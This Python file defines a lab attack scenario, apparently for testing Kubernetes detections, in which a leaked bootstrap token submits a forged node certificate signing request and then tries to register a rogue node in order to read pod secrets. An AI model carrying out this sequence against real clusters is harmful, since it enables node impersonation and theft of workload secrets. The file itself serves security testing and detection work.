"""A leaked bootstrap token becomes a node's certificate request; the node then reads what nodes may read."""

import base64

from lab.pki import signing_request
from lab.story import Scenario, Stage

_PATH = "/apis/certificates.k8s.io/v1/certificatesigningrequests"


def _play(stage: Stage) -> None:
    thief = stage.stranger(stage.lab.static("node-bootstrap"), "kubectl/v1.36.1 (linux/amd64) kubernetes/9d1c0aa")
    node = f"node-{stage.chance.randrange(10, 99)}"
    request, _key = signing_request(f"system:node:{node}", ("system:nodes",))
    spec = {
        "request": base64.b64encode(request).decode(),
        "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
        "usages": ["client auth", "digital signature"],
    }
    body = {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"generateName": "node-csr-"},
        "spec": spec,
    }
    with stage.step("ask for a node's certificate", thief, "credential-access", ("F14", "F21", "A08", "N08")):
        stage.must(thief.post(_PATH, body))
        thief.get(_PATH)
    with stage.step("try to join", thief, "initial-access", ("A14", "B07")):
        thief.post("/api/v1/nodes", {"apiVersion": "v1", "kind": "Node", "metadata": {"name": node}})


SCENARIO = Scenario(
    "rogue-node",
    "A bootstrap token asks to be a node",
    "attack",
    "read the secrets of pods as their node",
    ("T1552", "T1036"),
    _play,
)
